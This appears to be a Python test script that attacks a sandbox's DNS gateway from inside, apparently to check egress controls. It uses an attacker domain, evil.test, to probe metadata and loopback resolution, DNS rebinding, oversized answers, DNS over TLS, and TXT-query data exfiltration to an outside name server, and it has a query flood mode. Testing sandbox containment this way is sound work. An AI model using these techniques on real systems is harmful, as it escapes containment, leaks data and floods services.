"""Attacks by questions for names. Its arguments are a port of the host and an address
of a name server that is not the sandbox's. The domain evil.test belongs to the attacker.

Prints what succeeded. With "flood" as its argument it sends data in questions for TXT
records until it is killed.
"""

import itertools
import os
import select
import socket
import struct
import sys

GATEWAY = ("1.1.1.1", 53)  # any address: the agent answers
TXT, A = 16, 1


def question(name, kind):
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return os.urandom(2) + b"\x01\x00" + struct.pack("!4H", 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def ask(server, name, kind, tcp=False):
    """Returns the answer, or b'' if none comes."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM)
    s.settimeout(10)
    try:
        s.connect(server)
        q = question(name, kind)
        s.sendall(struct.pack("!H", len(q)) + q if tcp else q)
        if not tcp:
            return s.recv(65535)
        got = b""
        while len(got) < 2 or len(got) < 2 + struct.unpack("!H", got[:2])[0]:
            part = s.recv(65535)
            if not part:
                break
            got += part
        return got[2:]
    except OSError:
        return b""
    finally:
        s.close()


def reaches(name, port):
    """Connects by a name, at an address of the world, and returns what a server says."""
    s = socket.socket()
    s.settimeout(10)
    try:
        s.connect(("8.8.4.4", port))
        s.sendall(f"GET / HTTP/1.1\r\nHost: {name}:{port}\r\nConnection: close\r\n\r\n".encode())
        return s.recv(64)
    except OSError:
        return b""
    finally:
        s.close()


def main():
    port, other = int(sys.argv[1]), sys.argv[2]
    for name in ("metadata", "gateway", "loopback", "slot", "mixed", "alias"):
        answer = ask(GATEWAY, f"{name}.evil.test", A)
        if b"\xa9\xfe\xa9\xfe" in answer or b"\x7f\x00\x00\x01" in answer:
            print(f"{name} has a closed address")
        if reaches(f"{name}.evil.test", port).startswith(b"HTTP/1.1 2"):
            print(f"{name} was reached")
    for _ in range(20):  # its address is another one for each question
        reaches("flip.evil.test", port)
    for name, kind, tcp in itertools.product(("loop", "chain", "huge", "liar", "short"), (A, TXT), (False, True)):
        answer = ask(GATEWAY, f"{name}.evil.test", kind, tcp)
        if len(answer) > (65535 if tcp else 1232):
            print(f"{name} has {len(answer)} bytes")
    for tcp in (False, True):
        for name in ("secret-data.other.test", "here.evil.test"):
            ask((other, 53), name, TXT, tcp)
    s = socket.socket()  # DNS over TLS to that server
    s.settimeout(10)
    try:
        s.connect((other, 853))
        s.sendall(question("here.evil.test", TXT))
        if s.recv(64):
            print("DNS over TLS was answered")
    except OSError:
        pass


def flood():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    s.connect(GATEWAY)
    for n in itertools.count():
        try:
            s.send(question(f"{n:050d}.evil.test", TXT))
            s.recv(65535)
        except OSError:
            select.select([], [s], [])


flood() if "flood" in sys.argv else main()
